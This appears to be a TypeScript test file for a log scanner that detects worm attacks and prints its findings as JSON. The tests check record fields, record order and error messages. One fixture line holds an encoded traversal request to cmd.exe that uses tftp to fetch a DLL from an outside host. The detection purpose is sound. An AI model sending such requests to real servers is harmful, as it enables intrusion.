import { deepEqual, equal, ok } from 'node:assert/strict'
import { test } from 'node:test'
import { readJson } from '../report/read-json.ts'
import { findings, folderOf, redalert } from './program.ts'
import { backDoor, codeRed, line } from './sample-lines.ts'

const fetching = line(
  '198.51.100.7',
  'GET /scripts/..%255c../winnt/system32/cmd.exe?/c+tftp%20-i%20192.0.2.99%20GET%20Admin.dll%20Admin.dll HTTP/1.0',
)
const folder = folderOf({
  'a.log': `${codeRed('192.0.2.7')}${backDoor}${fetching}nobody reads this\n`,
  'b.log': '',
})
const ran = redalert(folder, ['--json', '--unread', 'a.log', 'b.log', 'none.log'])

/** What `submit` and other programs rely on, field by field. */
const fields: Readonly<Record<string, string>> = {
  redalert: 'kind schema sensor zone signatures',
  sighting:
    'kind source family hole grade reason setApart clock first last requests lines files cells evidence',
  'payload-host': 'kind host sources',
  answered: 'kind file line text',
  unread: 'kind file line reason',
  fault: 'kind code file message',
  remark: 'kind code file message',
  coverage: 'kind sensor hours listens signatures',
  summary: 'kind files lines matched other unread skipped bytes seconds first last',
}

for (const [kind, names] of Object.entries(fields)) {
  test(`a line of the kind ${kind} has its fields`, () => {
    const [first] = findings(ran, kind)
    ok(first, `no ${kind}`)
    deepEqual(Object.keys(first), names.split(' '))
  })
}

test('the heading stands first, the summary last, and every line can be read back', () => {
  const kinds = findings(ran).map(({ kind }) => kind)
  deepEqual([kinds.at(0), kinds.at(-1)], ['redalert', 'summary'])
  for (const [index, text] of ran.out.trimEnd().split('\n').entries())
    ok('finding' in readJson(text, index + 1), text)
})

test('faults and remarks are told on the standard error as well', () => {
  equal(ran.told, 'redalert: no such file: none.log\nredalert: note: b.log is empty\n')
})
